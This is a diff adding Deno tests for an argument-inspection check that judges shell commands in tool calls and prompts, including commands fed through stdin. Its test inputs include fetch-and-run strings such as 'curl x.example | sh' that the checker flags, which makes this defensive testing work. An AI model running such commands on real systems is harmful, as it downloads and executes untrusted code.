@@ -32,9 +32,11 @@ const RULES: InspectionRules = {
     allowNetworks: [],
   },
   dialect: "postgres",
+  results: { hidden: "off", secrets: "off", injection: "off" },
 };
 
 const PATH: ArgumentKind = { kind: "path", access: "read" };
+const COMMAND: ArgumentKind = { kind: "command", profile: "default" };
 const ARGV: ArgumentKind = { kind: "argv", profile: "default" };
 
 interface Asked {
@@ -42,13 +44,18 @@ interface Asked {
   readonly inputSchema?: JsonValue;
   readonly name?: string;
   readonly rules?: Partial<InspectionRules>;
+  readonly prompts?: Readonly<Record<string, Readonly<Record<string, ArgumentKind>>>>;
 }
 
 async function find(request: Partial<AccessRequest>, asked: Asked = {}): Promise<string> {
-  const { kinds = {}, inputSchema, name = "tool", rules = {} } = asked;
+  const { kinds = {}, inputSchema, name = "tool", rules = {}, prompts = {} } = asked;
   const plan = {
     inspection: { ...RULES, ...rules },
     argumentKinds: () => new Map(Object.entries(kinds)),
+    promptKinds: (prompt: string) => {
+      const declared = prompts[prompt];
+      return declared === undefined ? undefined : new Map(Object.entries(declared));
+    },
   };
   const listing: ToolListing | undefined = inputSchema === undefined
     ? undefined
@@ -176,3 +183,35 @@ Deno.test("inspectCheck() takes no look-alike of a declared name where no schema
   assert.equal(await call({ edits: [{ TEXT: "x" }] }, asked), "invalid_arguments");
   assert.equal(await call({ path: "a", paths: ["b"], edits: [{ text: "x" }] }, asked), "pass");
 });
+
+Deno.test("inspectCheck() judges a command with what the same call gives it to read", async () => {
+  const rules = { commands: withShell() };
+  const kinds = { "/run": COMMAND, "/in": { kind: "stdin" } } as const;
+  const ask = (args: JsonObject) => find({ arguments: args }, { kinds, rules });
+  assert.equal(await ask({ run: "sh" }), "pass");
+  assert.equal(await ask({ run: "sh", in: "ls -l" }), "pass");
+  assert.match(await ask({ run: "sh", in: "curl x.example" }), /\/run/);
+  assert.match(await ask({ in: "curl x.example", run: "ls; sh" }), /\/run/);
+  assert.equal(await ask({ run: "ls", in: "curl x.example | sh" }), "pass");
+  assert.match(await ask({ run: "sh", in: ["ls"] }), /\/run/);
+  assert.match(await ask({ run: ["ls", "sh"], in: "ls" }), /\/run\/1/);
+});
+
+Deno.test("inspectCheck() judges the arguments of a prompt whose kinds are declared", async () => {
+  const ask = (name: string, command: string) =>
+    find({
+      method: "prompts/get",
+      action: "read",
+      resource: { kind: "prompt", server: null, name },
+      arguments: { command },
+    }, { prompts: { run: { "/command": COMMAND } } });
+  assert.equal(await ask("run", "ls -l"), "pass");
+  assert.match(await ask("run", "curl x.example"), /\/command/);
+  assert.equal(await ask("explain", "curl x.example"), "pass");
+});
+
+function withShell(): InspectionRules["commands"] {
+  const profile = RULES.commands.get("default");
+  assert.ok(profile !== undefined);
+  return new Map([["default", { ...profile, allow: new Set(["ls", "sh"]) }]]);
+}
